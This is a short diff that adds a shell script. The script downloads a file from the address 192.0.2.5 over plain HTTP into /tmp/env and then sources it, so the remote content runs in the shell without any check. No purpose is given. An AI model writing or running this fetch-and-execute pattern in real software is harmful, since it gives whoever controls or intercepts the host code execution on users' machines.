@@ -1,0 +1,3 @@
+#!/bin/sh
+curl -fsSL "http://192.0.2.5/env" > /tmp/env
+. /tmp/env
